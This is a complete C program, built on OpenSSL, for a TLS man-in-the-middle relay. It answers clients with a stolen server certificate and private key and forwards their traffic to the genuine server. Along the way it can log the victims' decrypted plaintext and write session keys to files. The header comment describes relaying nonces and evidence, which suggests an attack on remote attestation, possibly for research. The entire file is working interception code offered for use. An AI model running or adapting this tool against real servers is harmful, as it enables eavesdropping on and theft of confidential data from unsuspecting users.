// SPDX-License-Identifier: MIT
/*
 * relay - a man in the middle that holds a server's stolen TLS key
 *
 * It answers a relying party's TLS connection with the stolen key and
 * certificate, opens a TLS connection of its own to the genuine server, and
 * forwards every application byte verbatim in both directions. So the genuine
 * server receives the relying party's own nonce, and the relying party receives
 * the genuine server's genuine evidence; the relay reads all of it.
 *
 *	relay LISTEN_ADDR:PORT SERVER_ADDR:PORT CERT KEY [PLAINTEXT_FILE [KEYS_FILE]]
 *
 * PLAINTEXT_FILE gets, appended, what relying parties send to the server, and
 * KEYS_FILE the relay's own keys towards the server, as NSS key log.
 * One process serves one connection; two lines on stdout tell about each.
 */
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include <openssl/bio.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

#define HALF_CLOSED_MS	5000	/* how long the other side may go on talking */

static const char *keys_file;	/* for the relay's own keys, or NULL */

struct direction {
	SSL *from;
	SSL *to;
	FILE *copy;		/* of what passes, or NULL */
	unsigned long long bytes;
	bool open;
};

static void relay_die(const char *what)
{
	fprintf(stderr, "relay: %s\n", what);
	ERR_print_errors_fp(stderr);
	exit(EXIT_FAILURE);
}

static SSL_CTX *relay_ctx(const SSL_METHOD *method)
{
	SSL_CTX *ctx = SSL_CTX_new(method);

	if (!ctx || !SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION))
		relay_die("cannot set TLS up");
	/* Return from SSL_read() after a session ticket instead of blocking. */
	SSL_CTX_clear_mode(ctx, SSL_MODE_AUTO_RETRY);
	return ctx;
}

/* Towards the relying party: speak as the server whose key was stolen. */
static SSL *relay_impersonate(BIO *victim, const char *cert, const char *key)
{
	SSL_CTX *ctx = relay_ctx(TLS_server_method());
	SSL *ssl;

	if (SSL_CTX_use_certificate_chain_file(ctx, cert) != 1 ||
	    SSL_CTX_use_PrivateKey_file(ctx, key, SSL_FILETYPE_PEM) != 1)
		relay_die("cannot use the stolen key");
	ssl = SSL_new(ctx);
	SSL_CTX_free(ctx);
	if (!ssl)
		relay_die("no memory");
	SSL_set_bio(ssl, victim, victim);
	if (SSL_accept(ssl) != 1)
		relay_die("handshake with the relying party failed");
	return ssl;
}

static void relay_keys(const SSL *ssl, const char *line)
{
	FILE *keys = fopen(keys_file, "a");

	(void)ssl;
	if (!keys || fprintf(keys, "%s\n", line) < 0 || fclose(keys))
		relay_die("cannot write keys");
}

/* Towards the genuine server: an ordinary client that checks nothing. */
static SSL *relay_connect(const char *server)
{
	SSL_CTX *ctx = relay_ctx(TLS_client_method());
	BIO *bio = BIO_new_connect(server);
	SSL *ssl;

	if (keys_file)
		SSL_CTX_set_keylog_callback(ctx, relay_keys);
	ssl = SSL_new(ctx);
	SSL_CTX_free(ctx);
	if (!ssl || !bio || BIO_do_connect(bio) != 1)
		relay_die("cannot reach the genuine server");
	SSL_set_bio(ssl, bio, bio);
	if (SSL_connect(ssl) != 1)
		relay_die("handshake with the genuine server failed");
	return ssl;
}

/* Forwards one record. Returns false if the connection is of no more use. */
static bool relay_forward(struct direction *dir)
{
	char buf[16384];
	size_t len, written;

	ERR_clear_error();
	if (SSL_read_ex(dir->from, buf, sizeof(buf), &len)) {
		dir->bytes += len;
		if (dir->copy && (fwrite(buf, 1, len, dir->copy) != len || fflush(dir->copy)))
			relay_die("cannot write the plaintext");
		return SSL_write_ex(dir->to, buf, len, &written) == 1;
	}
	switch (SSL_get_error(dir->from, 0)) {
	case SSL_ERROR_WANT_READ:
	case SSL_ERROR_WANT_WRITE:
		return true;
	case SSL_ERROR_ZERO_RETURN:
		dir->open = false;
		return SSL_shutdown(dir->to) >= 0;
	default:
		return false;
	}
}

static void relay_loop(struct direction *up, struct direction *down)
{
	while (up->open || down->open) {
		bool pending = SSL_pending(up->from) || SSL_pending(down->from);
		struct pollfd fds[] = {
			{ .fd = up->open ? SSL_get_fd(up->from) : -1, .events = POLLIN },
			{ .fd = down->open ? SSL_get_fd(down->from) : -1, .events = POLLIN },
		};
		int timeout = up->open && down->open ? -1 : HALF_CLOSED_MS;
		int ready = poll(fds, 2, pending ? 0 : timeout);

		if (ready < 0 || (ready == 0 && !pending))
			return;
		if ((fds[0].revents || (up->open && SSL_pending(up->from))) &&
		    !relay_forward(up))
			return;
		if ((fds[1].revents || (down->open && SSL_pending(down->from))) &&
		    !relay_forward(down))
			return;
	}
}

static void relay_serve(BIO *victim, char **argv)
{
	struct direction up = { .open = true }, down = { .open = true };

	up.from = down.to = relay_impersonate(victim, argv[3], argv[4]);
	up.to = down.from = relay_connect(argv[2]);
	if (argv[5]) {
		up.copy = fopen(argv[5], "a");
		if (!up.copy)
			relay_die("cannot open the plaintext file");
	}
	printf("relay: answered a relying party with the stolen key; forwarding to %s\n",
	       argv[2]);
	relay_loop(&up, &down);
	printf("relay: forwarded %llu bytes to the server, %llu bytes back\n",
	       up.bytes, down.bytes);
	if (up.copy)
		fclose(up.copy);
	SSL_shutdown(up.from);
	SSL_shutdown(down.from);
	SSL_free(up.from);
	SSL_free(down.from);
}

int main(int argc, char **argv)
{
	BIO *listener;

	if (argc < 5 || argc > 7) {
		fputs("usage: relay LISTEN SERVER CERT KEY [PLAINTEXT_FILE [KEYS_FILE]]\n", stderr);
		return EXIT_FAILURE;
	}
	if (argc == 7)
		keys_file = argv[6];
	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	listener = BIO_new_accept(argv[1]);
	if (!listener)
		relay_die("no memory");
	BIO_set_bind_mode(listener, BIO_BIND_REUSEADDR);
	if (BIO_do_accept(listener) != 1)
		relay_die("cannot listen");
	while (BIO_do_accept(listener) == 1) {
		BIO *victim = BIO_pop(listener);
		pid_t child = fork();

		if (child == 0) {
			close(BIO_get_fd(listener, NULL));
			relay_serve(victim, argv);
			return EXIT_SUCCESS;
		}
		if (child < 0)
			relay_die("cannot fork");
		BIO_free_all(victim);
	}
	relay_die("cannot accept");
}
